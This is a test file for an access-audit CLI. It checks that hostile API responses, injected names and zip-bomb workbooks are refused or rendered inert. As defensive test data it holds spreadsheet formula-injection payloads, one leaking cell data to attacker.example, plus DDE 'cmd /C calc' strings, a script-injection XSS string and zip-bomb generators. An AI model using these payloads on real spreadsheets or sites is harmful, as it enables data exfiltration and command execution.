/**
 * Hostile input (SECURITY.md, issue 8): hostile responses from the API (invalid UTF-8, HTML for
 * JSON, JSON nested 100,000 deep, a 200 MB body, a page far over its limit, unpaired
 * surrogates) are refused with a clear one-line error and the crawl publishes nothing; hostile
 * names (markup, formulas, bidi and zero-width characters, NUL and control characters, 10,000
 * characters) go through the real CLI's crawl into a real database, stored exactly, and come
 * out escaped in the HTML report (nothing runs in Chromium) and inert in the workbook; returned
 * certification workbooks that are zip bombs, oversized, not zips or lying about their sizes
 * are refused before exceljs parses them, and reviewer-entered payloads are stored as text and
 * shown escaped in the sign-off.
 */
import { isUtf8 } from "node:buffer";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import ExcelJS from "exceljs";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AdminApiError, AdminClient, MAX_JSON_DEPTH, ProtocolError } from "../src/api/index.js";
import { jsonDepthExceeds } from "../src/api/limits.js";
import {
  checkWorkbookZip,
  readWorkbookBytes,
  WorkbookLimitError,
} from "../src/certify/zip-limits.js";
import { type FaultConfig, type RunningSimulator, startSimulator } from "../src/simulator/index.js";
import { Store } from "../src/store/index.js";
import { hasChromium, launchChromium } from "./support/browser.js";
import { fillWorkbook, workbookColumn } from "./support/certify-workbooks.js";
import { cliEnv, runCli } from "./support/cli.js";
import { expectedSnapshot, storedSnapshot } from "./support/expected.js";
import {
  addHostileOrganization,
  buildZip,
  deflatedEntry,
  deflatedSpaces,
  FORMULA_TRIGGERS,
  HOSTILE_CORPUS,
  type HostileOrg,
  LONG_NAME,
  zipBombWorkbook,
} from "./support/hostile.js";

const inBrowser = it.skipIf(!hasChromium);

const tmp = mkdtempSync(join(tmpdir(), "aa-hostile-"));
let browser: Browser | undefined;

beforeAll(async () => {
  if (hasChromium) {
    browser = await launchChromium();
  }
});
afterAll(async () => {
  await browser?.close();
  rmSync(tmp, { recursive: true, force: true });
});

function cli(sim: RunningSimulator, args: string[], timeoutMs = 90_000) {
  return runCli(args, cliEnv({ OPENAI_ADMIN_KEY: sim.adminKey }), timeoutMs, tmp);
}

/**
 * A stderr whose message (what is not a structured JSON log line) is one line that says
 * `pattern`; neither it nor any log line names the key.
 */
function expectOneLine(stderr: string, pattern: RegExp, key: string): void {
  const lines = stderr
    .trim()
    .split("\n")
    .filter((l) => !l.startsWith("{"));
  expect(lines, stderr).toHaveLength(1);
  expect(lines[0]).toMatch(/^access-audit: /);
  expect(lines[0]).toMatch(pattern);
  expect(stderr).not.toContain(key);
}

interface Opened {
  text: string;
  problems: string[];
  /** Markers hostile script would set, elements hostile markup would create. */
  injected: { pwned: unknown; handlers: number; images: number; svgs: number };
  overflow: number;
}

/** Opens an HTML file in Chromium; records dialogs, errors and any request but the file's. */
async function openInChromium(path: string): Promise<Opened> {
  if (browser === undefined) throw new Error("no browser");
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const url = pathToFileURL(path).href;
  const problems: string[] = [];
  page.on("dialog", (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => problems.push(`pageerror: ${error.message}`));
  page.on("request", (request) => {
    if (request.url() !== url) problems.push(`request: ${request.url()}`);
  });
  await page.goto(url, { waitUntil: "load" });
  await page.waitForTimeout(200);
  const text = (await page.locator("body").textContent()) ?? "";
  const injected = (await page.evaluate(`({
    pwned: window.__pwned ?? null,
    handlers: Array.from(document.querySelectorAll("*")).filter((el) =>
      Array.from(el.attributes).some((a) => a.name.toLowerCase().startsWith("on")),
    ).length,
    images: document.querySelectorAll("img").length,
    svgs: document.querySelectorAll("main svg[onload], svg[onload]").length,
  })`)) as Opened["injected"];
  const overflow = (await page.evaluate(
    "document.documentElement.scrollWidth - document.documentElement.clientWidth",
  )) as number;
  await page.close();
  return { text, problems, injected, overflow };
}

/** Every cell of every sheet: none is a formula, none could be read as one, none has a control. */
async function expectInertWorkbook(path: string): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const texts: string[] = [];
  const bad: string[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const v = cell.value;
        const where = `${sheet.name}!${cell.address}`;
        if (cell.type === ExcelJS.ValueType.Formula) bad.push(`${where}: formula`);
        if (v !== null && typeof v === "object" && ("formula" in v || "sharedFormula" in v)) {
          bad.push(`${where}: formula value`);
        }
        const text =
          typeof v === "string"
            ? v
            : v !== null && typeof v === "object" && "richText" in v
              ? v.richText.map((r) => r.text).join("")
              : null;
        if (text === null) return;
        texts.push(text);
        if (FORMULA_TRIGGERS.some((t) => text.startsWith(t))) bad.push(`${where}: ${text}`);
        // XML 1.0 cannot hold these; the workbook must not either.
        // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
        if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(text)) {
          bad.push(`${where}: control character in ${JSON.stringify(text.slice(0, 40))}`);
        }
      });
    });
  }
  expect(bad).toEqual([]);
  return texts;
}

// ---------------------------------------------------------------------------------------------

describe("hostile responses from the API", () => {
  let sim: RunningSimulator;
  const clients: AdminClient[] = [];
  const client = (): AdminClient => {
    const c = new AdminClient({
      baseUrl: sim.baseUrl,
      apiKey: sim.adminKey,
      initialBackoffMs: 5,
      maxRetries: 4,
      concurrency: 2,
    });
    clients.push(c);
    return c;
  };
  const listGroupsError = async (): Promise<AdminApiError> => {
    try {
      for await (const _ of client().listGroups()) {
        // drain
      }
    } catch (error) {
      if (error instanceof AdminApiError) return error;
      throw error;
    }
    throw new Error("the listing succeeded");
  };
  const raw = async (path: string) => {
    const res = await fetch(`${sim.baseUrl}${path}`, {
      headers: { authorization: `Bearer ${sim.adminKey}` },
    });
    return {
      status: res.status,
      type: res.headers.get("content-type"),
      bytes: Buffer.from(await res.arrayBuffer()),
    };
  };

  beforeAll(async () => {
    sim = await startSimulator({ port: 0, seed: 31, groups: 40, users: 200 });
  });
  afterAll(async () => {
    await Promise.all(clients.map((c) => c.close()));
    await sim.stop();
  });

  it("the simulator serves each hostile body as described", async () => {
    sim.setFaults({ invalidUtf8Rate: 1 });
    const utf8 = await raw("/organization/groups");
    expect(utf8.status).toBe(200);
    expect(isUtf8(utf8.bytes)).toBe(false);
    expect(utf8.bytes.includes(Buffer.from([0x22, 0xc3, 0x28, 0xff]))).toBe(true);
    sim.setFaults({ nonJsonRate: 1 });
    const html = await raw("/organization/groups");
    expect(html.type).toBe("text/html; charset=utf-8");
    expect(html.bytes.toString()).toMatch(/^<!DOCTYPE html>/);
    sim.setFaults({ deeplyNestedRate: 1 });
    const deep = await raw("/organization/groups");
    const parsed = JSON.parse(deep.bytes.toString()) as { nested: unknown; data: unknown[] };
    let depth = 0;
    for (let v: unknown = parsed.nested; Array.isArray(v); v = v[0]) depth++;
    expect(depth).toBe(100_000);
    expect(parsed.data.length).toBe(40);
    sim.setFaults({ oversizedPageRate: 1 });
    const big = JSON.parse((await raw("/organization/groups?limit=10")).bytes.toString()) as {
      data: unknown[];
    };
    expect(big.data).toHaveLength(51);
    sim.setFaults(undefined);
    // Five independent streams: the new kinds never move the old ones.
    expect(Object.keys(sim.stats().faults)).toEqual(
      expect.arrayContaining([
        "invalidUtf8",
        "nonJson",
        "deeplyNested",
        "hugeBody",
        "oversizedPage",
      ]),
    );
  });

  it("the new fault kinds draw from their own streams: existing seeds do not move", async () => {
    const statuses = async (faults: FaultConfig): Promise<string> => {
      sim.setFaults(faults);
      let out = "";
      for (let i = 0; i < 40; i++) {
        const r = await raw("/organization/roles");
        out += r.status === 429 ? "R" : r.status >= 500 ? "S" : ".";
      }
      sim.setFaults(undefined);
      return out;
    };
    const old = { seed: 5, rate429: 0.2, rate5xx: 0.2, retryAfterSeconds: 0 };
    const before = await statuses(old);
    expect(before).toMatch(/R/);
    expect(before).toMatch(/S/);
    const after = await statuses({
      ...old,
      invalidUtf8Rate: 0.5,
      nonJsonRate: 0.5,
      deeplyNestedRate: 0.5,
      nestingDepth: 10,
      oversizedPageRate: 0.5,
    });
    expect(after).toBe(before);
  });

  it.each([
    [
      "invalid UTF-8 in a name: refused, never repaired",
      { invalidUtf8Rate: 1 },
      /^200 protocol: GET \/organization\/groups\?limit=1000\S*: response of \/organization\/groups is not valid UTF-8 \(\d+ bytes\); refused rather than altered \(attempts=3/,
      3,
    ],
    [
      "an HTML page for JSON: retried, then refused",
      { nonJsonRate: 1 },
      /response of \/organization\/groups is text\/html; charset=utf-8, not JSON \(\d+ bytes\) \(attempts=3/,
      3,
    ],
    [
      "JSON nested 100,000 deep: refused before parsing, no stack overflow",
      { deeplyNestedRate: 1 },
      /response of \/organization\/groups nests JSON deeper than 64 levels; refused \(attempts=1/,
      1,
    ],
    [
      "a page with 5,001 items for limit=1000: refused",
      { oversizedPageRate: 1 },
      /pagination of \/organization\/groups: page 0 has 5001 items, more than the limit=1000 asked for/,
      1,
    ],
  ] as [string, FaultConfig, RegExp, number][])("%s", async (_name, faults, pattern, attempts) => {
    sim.setFaults(faults);
    sim.resetStats();
    const error = await listGroupsError();
    sim.setFaults(undefined);
    expect(error).toBeInstanceOf(ProtocolError);
    expect(error.message).toMatch(pattern);
    expect(error.attempts).toBe(attempts);
    expect(error.message).not.toContain(sim.adminKey);
    expect(error.message).not.toContain("\n");
    expect(sim.stats().requests).toBe(attempts);
  });

  it("nesting is counted outside strings only, and the limit is exact", () => {
    const nested = (n: number) => `${"[".repeat(n)}${"]".repeat(n)}`;
    expect(jsonDepthExceeds(nested(MAX_JSON_DEPTH), MAX_JSON_DEPTH)).toBe(false);
    expect(jsonDepthExceeds(nested(MAX_JSON_DEPTH + 1), MAX_JSON_DEPTH)).toBe(true);
    const name = JSON.stringify({ name: `${"[{".repeat(500)} \\" ${"[".repeat(500)}` });
    expect(jsonDepthExceeds(name, 2)).toBe(false);
    expect(jsonDepthExceeds(`[${name}]`, 1)).toBe(true);
  });

  it("a 200 MB body: the read is cut at 64 MiB, not retried, and the server stops sending", async () => {
    sim.setFaults({ hugeBodyRate: 1 });
    sim.resetStats();
    const started = Date.now();
    const error = await listGroupsError();
    sim.setFaults(undefined);
    expect(error).toBeInstanceOf(ProtocolError);
    expect(error.message).toMatch(
      /response of \/organization\/groups is larger than maxResponseBytes=67108864; read aborted \(attempts=1/,
    );
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(sim.stats().requests).toBe(1);
    // Back-pressure: the simulator stopped well short of 200 MB once the client hung up.
    await expect.poll(() => sim.stats().bytesSent).toBeLessThan(100 * 1024 * 1024);
    expect(sim.stats().bytesSent).toBeGreaterThan(64 * 1024 * 1024);
    // A declared content-length over the cap is refused before reading a byte.
    const small = new AdminClient({
      baseUrl: sim.baseUrl,
      apiKey: sim.adminKey,
      maxResponseBytes: 1024,
    });
    clients.push(small);
    await expect(small.listGroups()[Symbol.asyncIterator]().next()).rejects.toThrow(
      /larger than maxResponseBytes=1024; read aborted/,
    );
  });

  it("NUL, 10,000-character and unpaired-surrogate names: escaped on the wire; the surrogate refused", async () => {
    const nul = sim.state.createGroup("a\u0000b <x>").id;
    const long = sim.state.createGroup(LONG_NAME).id;
    const lone = sim.state.createGroup("half \ud800 a pair").id;
    try {
      const wire = await raw("/organization/groups?limit=1000");
      expect(isUtf8(wire.bytes)).toBe(true);
      const text = wire.bytes.toString("utf8");
      expect(text).toContain('"a\\u0000b <x>"');
      expect(text).toContain('"half \\ud800 a pair"');
      expect(text).toContain(JSON.stringify(LONG_NAME));
      const error = await listGroupsError();
      expect(error).toBeInstanceOf(ProtocolError);
      expect(error.message).toMatch(
        /response of \/organization\/groups has an unpaired UTF-16 surrogate \(a \\uD800-\\uDFFF escape\) in data\[42\]\.name: it has no UTF-8 form and would be altered in the evidence; refused \(attempts=1/,
      );
      sim.state.deleteGroup(lone);
      const names = new Map<string, string>();
      for await (const g of client().listGroups()) names.set(g.id, g.name);
      expect(names.get(nul)).toBe("a\u0000b <x>");
      expect(names.get(long)).toBe(LONG_NAME);
      expect(names.get(long)?.length).toBe(10_000);
    } finally {
      for (const id of [nul, long, lone]) if (sim.state.hasGroup(id)) sim.state.deleteGroup(id);
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe("the CLI's crawl under hostile responses: one line, exit 1, nothing published", () => {
  let sim: RunningSimulator;
  beforeAll(async () => {
    sim = await startSimulator({ port: 0, seed: 32, groups: 8, users: 40 });
  });
  afterAll(async () => {
    await sim.stop();
  });

  it.each([
    ["invalid UTF-8", { invalidUtf8Rate: 1 }, /is not valid UTF-8/],
    ["HTML instead of JSON", { nonJsonRate: 1 }, /is text\/html; charset=utf-8, not JSON/],
    ["deep nesting", { deeplyNestedRate: 1 }, /nests JSON deeper than 64 levels/],
    [
      "a 200 MB body",
      { hugeBodyRate: 1 },
      /is larger than maxResponseBytes=67108864; read aborted/,
    ],
    ["a page over its limit", { oversizedPageRate: 1 }, /items, more than the limit=\d+ asked for/],
    ["an unpaired surrogate", {}, /has an unpaired UTF-16 surrogate/],
  ] as [string, FaultConfig, RegExp][])("%s", async (name, faults, pattern) => {
    const db = join(tmp, `crawl-${name.replace(/\W+/g, "-")}.duckdb`);
    sim.setFaults(faults);
    const lone = Object.keys(faults).length === 0 ? sim.state.createGroup("\udc00").id : null;
    try {
      const crawl = await cli(sim, ["crawl", "--db", db, "--base-url", sim.baseUrl]);
      expect(crawl.status, crawl.stderr).toBe(1);
      expectOneLine(crawl.stderr, pattern, sim.adminKey);
    } finally {
      sim.setFaults(undefined);
      if (lone !== null) sim.state.deleteGroup(lone);
    }
    const store = await Store.open(db, { readOnly: true });
    try {
      const snapshots = await store.query<{ status: string }>("SELECT status FROM snapshots");
      expect(snapshots.map((s) => s.status)).toEqual(["failed"]);
      const visible = await store.query<{ n: number }>(
        "SELECT count(*)::INTEGER AS n FROM snapshot_groups",
      );
      expect(visible[0]?.n).toBe(0);
    } finally {
      await store.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe("a hostile organization through crawl, reports and certification", () => {
  let sim: RunningSimulator;
  let org: HostileOrg;
  const db = join(tmp, "hostile.duckdb");
  const reports = join(tmp, "reports");
  let files: { format: string; path: string }[] = [];

  beforeAll(async () => {
    sim = await startSimulator({ port: 0, seed: 33, groups: 4, users: 20 });
    org = addHostileOrganization(sim);
    const crawl = await cli(sim, ["crawl", "--db", db, "--base-url", sim.baseUrl, "--json"]);
    expect(crawl.status, crawl.stderr).toBe(0);
    const report = await cli(sim, ["report", "--db", db, "--out", reports, "--json"]);
    expect(report.status, report.stderr).toBe(0);
    files = (JSON.parse(report.stdout) as { files: { format: string; path: string }[] }).files;
  });
  afterAll(async () => {
    await sim.stop();
  });

  it("stores every hostile name exactly (NUL, bidi, 10,000 characters and all)", async () => {
    const store = await Store.open(db, { readOnly: true });
    try {
      const rows = await store.query<{ snapshot_id: number }>(
        "SELECT snapshot_id FROM snapshots WHERE status = 'complete'",
      );
      expect(rows).toHaveLength(1);
      const stored = await storedSnapshot(store, rows[0]?.snapshot_id ?? 0);
      expect(stored).toEqual(expectedSnapshot(sim.state));
      const names = await store.query<{ name: string }>(
        "SELECT name FROM snapshot_groups WHERE group_id = $1",
        [org.groups.nul],
      );
      expect(names[0]?.name).toBe(HOSTILE_CORPUS.nul);
    } finally {
      await store.close();
    }
  });

  inBrowser(
    "HTML report: nothing runs, payloads are text, 10,000 characters do not break it",
    async () => {
      const html = files.find((f) => f.format === "html")?.path ?? "";
      const source = readFileSync(html, "utf8");
      expect(source).not.toContain("<script>window.__pwned");
      expect(source).not.toContain("\u0000");
      const opened = await openInChromium(html);
      expect(opened.problems).toEqual([]);
      expect(opened.injected).toEqual({ pwned: null, handlers: 0, images: 0, svgs: 0 });
      for (const key of ["script", "closeScript", "image", "svg", "template", "equals"] as const) {
        expect(opened.text).toContain(HOSTILE_CORPUS[key]);
      }
      // Bidi and zero-width characters are shown, not obeyed.
      expect(opened.text).toContain("invoice[U+202E]fdp.exe[U+202C]");
      expect(opened.text).toContain("[U+2066]admin[U+2069]");
      expect(opened.text).toContain("Own[U+200B]ers[U+FEFF]");
      expect(opened.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\ufeff]/);
      expect(opened.text).toContain(LONG_NAME.slice(0, 200));
      expect(opened.overflow).toBe(0);
    },
  );

  it("workbook: no formula, every trigger neutralised, no control character, long names intact", async () => {
    const xlsx = files.find((f) => f.format === "xlsx")?.path ?? "";
    const texts = await expectInertWorkbook(xlsx);
    expect(texts).toContain(`'${HOSTILE_CORPUS.equals}`);
    expect(texts).toContain(`'${HOSTILE_CORPUS.plus}`);
    expect(texts).toContain(`'${HOSTILE_CORPUS.at}`);
    expect(texts).toContain(`'${LONG_NAME}`);
    expect(texts).toContain(HOSTILE_CORPUS.script);
    // Hidden characters are shown, not obeyed (src/render/text.ts revealInvisible).
    expect(texts).toContain("invoice[U+202E]fdp.exe[U+202C]");
    expect(texts.some((t) => t.startsWith("nul[U+0000]byte=1"))).toBe(true);
  });

  describe("certification import", () => {
    const REVIEWER = "rev@corp.example";
    let workbook = "";
    const imported = (file: string) => cli(sim, ["certify", "import", file, "--db", db], 60_000);
    const decided = async (): Promise<number> => {
      const status = await cli(sim, [
        "certify",
        "status",
        "--campaign",
        "H1",
        "--db",
        db,
        "--json",
      ]);
      return (JSON.parse(status.stdout) as { decided: number }).decided;
    };

    beforeAll(async () => {
      const start = await cli(sim, [
        "certify",
        "start",
        "--name",
        "H1",
        "--reviewer",
        REVIEWER,
        "--db",
        db,
      ]);
      expect(start.status, start.stderr).toBe(0);
      const out = join(tmp, "certify-out");
      const exported = await cli(sim, [
        "certify",
        "export",
        "--campaign",
        "H1",
        "--out",
        out,
        "--db",
        db,
        "--json",
      ]);
      expect(exported.status, exported.stderr).toBe(0);
      workbook =
        (JSON.parse(exported.stdout) as { files: { path: string }[] }).files[0]?.path ?? "";
    });

    it("an exported workbook passes the zip checks", async () => {
      const entries = await checkWorkbookZip(readFileSync(workbook));
      expect(entries.has("xl/workbook.xml")).toBe(true);
    });

    it.each([
      [
        "a zip bomb (a sheet of 1 GB of spaces)",
        () => zipBombWorkbook(1024 * 1024 * 1024),
        /the zip archive declares more than 256\.0 MB uncompressed \(a zip bomb\?\); refused before parsing/,
      ],
      [
        "a lying central directory (1 GB declared as 4 KB)",
        () => zipBombWorkbook(1024 * 1024 * 1024, 4096),
        /zip entry "xl\/worksheets\/sheet2\.xml" inflates to more than the 4096 bytes its directory declares \(a zip bomb\?\); refused before parsing/,
      ],
      [
        "an entry with a compression ratio over 100:1",
        () => zipBombWorkbook(64 * 1024 * 1024),
        /zip entry "xl\/worksheets\/sheet2\.xml" declares 64\.0 MB from \d+ bytes \(ratio \d+:1, limit 100:1; a zip bomb\?\); refused before parsing/,
      ],
      [
        "too many entries",
        () =>
          buildZip(Array.from({ length: 1001 }, (_, i) => deflatedEntry(`xl/media/${i}.xml`, "x"))),
        /the zip archive has 1001 entries, more than the 1000 a workbook may have; refused before parsing/,
      ],
      [
        "not a zip archive",
        () => Buffer.from("<html><body>=cmd|' /C calc'!A0</body></html>"),
        /not an \.xlsx workbook \(not a zip archive\)/,
      ],
      [
        "an oversized file",
        null,
        /the file is 21\.0 MB, over the 20\.0 MB limit for a certification workbook; refused before parsing/,
      ],
    ] as [string, (() => Buffer) | null, RegExp][])(
      "%s: refused, exit 1, nothing recorded",
      async (name, make, pattern) => {
        const file = join(tmp, `${name.replace(/\W+/g, "-")}.xlsx`);
        if (make === null) {
          writeFileSync(file, readFileSync(workbook));
          truncateSync(file, 21 * 1024 * 1024); // sparse: nothing large is written
        } else {
          writeFileSync(file, make());
        }
        const started = Date.now();
        const result = await imported(file);
        expect(result.status, result.stderr).toBe(1);
        const lines = result.stderr.trim().split("\n");
        expect(lines[0]).toBe(
          "access-audit: import rejected: 1 problem(s) in 1 file(s); nothing recorded from it",
        );
        expect(lines).toHaveLength(2);
        expect(lines[1]).toMatch(pattern);
        expect(Date.now() - started).toBeLessThan(30_000);
      },
    );

    it("the checks run on real bytes, not on declarations", async () => {
      // Inflating a lying entry stops right after the declared size, long before 1 GB.
      const started = Date.now();
      await expect(
        checkWorkbookZip(zipBombWorkbook(1024 * 1024 * 1024, 1024 * 1024)),
      ).rejects.toThrow(WorkbookLimitError);
      expect(Date.now() - started).toBeLessThan(5_000);
      // Fewer bytes than declared, or a wrong CRC, is refused too.
      const short = deflatedSpaces("a.xml", 1024 * 1024);
      short.declaredSize = short.size + 10;
      await expect(checkWorkbookZip(buildZip([short]))).rejects.toThrow(
        /inflates to 1048576 bytes, not the 1048586 its directory declares/,
      );
      const crc = deflatedEntry("b.xml", "<x/>");
      crc.crc ^= 1;
      await expect(checkWorkbookZip(buildZip([crc]))).rejects.toThrow(/fails its CRC-32 check/);
    });

    it("a FIFO or a folder named as a workbook is refused without blocking", async () => {
      const fifo = join(tmp, "fifo.xlsx");
      execFileSync("mkfifo", [fifo]);
      await expect(readWorkbookBytes(fifo)).rejects.toThrow(/not a regular file; refused/);
      await expect(readWorkbookBytes(tmp)).rejects.toThrow(/not a regular file; refused/);
    });

    it("reviewer-entered payloads are stored as text and shown escaped in the sign-off", async () => {
      const payloads = [
        '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "<script>window.__pwned=9;alert('signoff')</script>",
        `long ${"j".repeat(10_000)} end`,
        "bidi \u202Eevil\u202C and zero\u200Bwidth",
        "nul\u0000inside",
      ];
      const filled = join(tmp, "filled-hostile.xlsx");
      let i = 0;
      await fillWorkbook(
        workbook,
        filled,
        () => {
          const justification = payloads[i % payloads.length] as string;
          i++;
          return { decision: "Approve", justification };
        },
        (sheet) => {
          // A real formula typed into a justification cell: read as its text, never evaluated.
          sheet.getRow(2).getCell(workbookColumn("Justification")).value = {
            formula: 'HYPERLINK("http://attacker.example/","x")',
          };
        },
      );
      // Nothing was recorded from any file refused above.
      expect(await decided()).toBe(0);
      const result = await cli(sim, ["certify", "import", filled, "--db", db, "--json"]);
      expect(result.status, result.stderr).toBe(0);
      expect(await decided()).toBe(i);
      const store = await Store.open(db, { readOnly: true });
      let stored: string[];
      try {
        stored = (
          await store.query<{ justification: string }>(
            "SELECT justification FROM certify_decisions ORDER BY sheet_row",
          )
        ).map((r) => r.justification);
      } finally {
        await store.close();
      }
      expect(stored[0]).toBe('=HYPERLINK("http://attacker.example/","x")');
      for (const p of payloads.slice(1, 6)) expect(stored).toContain(p);
      // exceljs (like Excel) cannot write a NUL into a cell: what the reviewer's file holds,
      // and so what is stored, is the text without it.
      expect(stored).toContain("nulinside");
      expect(stored.some((x) => x.includes("\u0000"))).toBe(false);

      const signoff = await cli(sim, [
        "certify",
        "report",
        "--campaign",
        "H1",
        "--out",
        join(tmp, "signoff"),
        "--db",
        db,
        "--json",
      ]);
      expect(signoff.status, signoff.stderr).toBe(0);
      const out = (JSON.parse(signoff.stdout) as { files: { format: string; path: string }[] })
        .files;
      const html = out.find((f) => f.format === "html")?.path ?? "";
      expect(readFileSync(html, "utf8")).not.toContain("<script>window.__pwned");
      const texts = await expectInertWorkbook(out.find((f) => f.format === "xlsx")?.path ?? "");
      expect(texts).toContain(`'${payloads[0]}`);
      if (hasChromium) {
        const opened = await openInChromium(html);
        expect(opened.problems).toEqual([]);
        expect(opened.injected.pwned).toBeNull();
        expect(opened.injected.images).toBe(0);
        expect(opened.text).toContain(payloads[3]);
        expect(opened.text).toContain("bidi [U+202E]evil[U+202C]");
      }
    });
  });
});
